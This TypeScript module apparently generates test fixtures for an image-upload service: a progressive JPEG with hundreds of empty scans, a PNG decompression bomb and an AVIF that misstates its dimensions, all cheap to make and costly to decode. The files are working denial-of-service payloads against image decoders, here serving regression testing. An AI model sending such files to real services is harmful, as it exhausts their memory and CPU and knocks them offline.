import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/* Small files that are expensive to decode. An earlier release accepted each of them from anybody who signed up. */

/**
 * A progressive JPEG of 12 million pixels that contains next to nothing in very many scans. For each of them the
 * decoder walks over the whole picture: one coefficient after the other, one bit after the other, as the standard
 * allows.
 */
export async function manyScansJpeg(scans = 800): Promise<Buffer> {
  const whole = await sharp({ create: { width: 4000, height: 3000, channels: 3, background: '#808080' } })
    .jpeg({ progressive: true })
    .toBuffer();
  const { head, emptyScan, headerAt } = withoutDetail(whole);
  const added: Buffer[] = [];
  for (let coefficient = 1; coefficient < 64; coefficient += 1) {
    for (let bit = highestBit; bit >= 0 && added.length < scans; bit -= 1) {
      const scan = Buffer.from(emptyScan);
      const before = bit === highestBit ? 0 : bit + 1;
      scan.set([coefficient, coefficient, before * 16 + bit], headerAt);
      added.push(scan);
    }
  }
  return Buffer.concat([head, ...added, Buffer.from([0xff, 0xd9])]);
}

const highestBit = 13;

/**
 * A JPEG's scans of mean colours only, and one scan of detail of the first component with its tables, from which other
 * scans are made.
 */
function withoutDetail(jpeg: Buffer): { head: Buffer; emptyScan: Buffer; headerAt: number } {
  const parts: Buffer[] = [jpeg.subarray(0, 2)];
  let tables: Buffer[] = [];
  let detail: { emptyScan: Buffer; headerAt: number } | undefined;
  let at = 2;
  while (jpeg[at + 1] !== 0xd9) {
    const marker = jpeg[at + 1];
    const headerEnd = at + 2 + jpeg.readUInt16BE(at + 2);
    let next = headerEnd;
    if (marker === 0xda) while (jpeg[next] !== 0xff || jpeg[next + 1] === 0) next += 1;
    const segment = jpeg.subarray(at, next);
    const isDetail = marker === 0xda && (jpeg[headerEnd - 3] ?? 0) > 0;
    if (marker === 0xc4) tables.push(segment);
    else if (!isDetail) parts.push(...tables.splice(0), segment);
    else if (!detail && jpeg[at + 5] === 1) {
      const before = Buffer.concat(tables);
      detail = { emptyScan: Buffer.concat([before, segment]), headerAt: before.length + (headerEnd - 3 - at) };
    }
    if (isDetail) tables = [];
    at = next;
  }
  if (!detail) throw new Error('No scan of this JPEG holds detail alone.');
  return { head: Buffer.concat(parts), ...detail };
}

/**
 * A complete PNG of grey zeros, one bit per pixel: some hundred KB that decompress into gigabytes, or into one endless
 * column.
 */
export function zerosPng(width: number, height: number, { interlaced = false } = {}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, interlaced ? 1 : 0], 8);
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}

/** An AVIF in full colour of a single shade: a few KB for any size, and 22 bytes of memory per pixel. */
export function plainAvif(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#808080' } })
    .avif({ effort: 0, quality: 1, chromaSubsampling: '4:4:4' })
    .toBuffer();
}

/** The same AVIF that claims other sides, for programs that believe it. */
export function avifThatSays(avif: Buffer, width: number, height: number): Buffer {
  const lying = Buffer.from(avif);
  const at = lying.indexOf('ispe', 0, 'latin1');
  lying.writeUInt32BE(width, at + 8);
  lying.writeUInt32BE(height, at + 12);
  return lying;
}

/** The three attack files by name. */
export async function attackPictures(): Promise<Record<'scans' | 'avif' | 'column', Buffer>> {
  return {
    scans: await manyScansJpeg(),
    avif: avifThatSays(await plainAvif(64, 64), 7071, 7071),
    column: zerosPng(1, 49_999_999),
  };
}
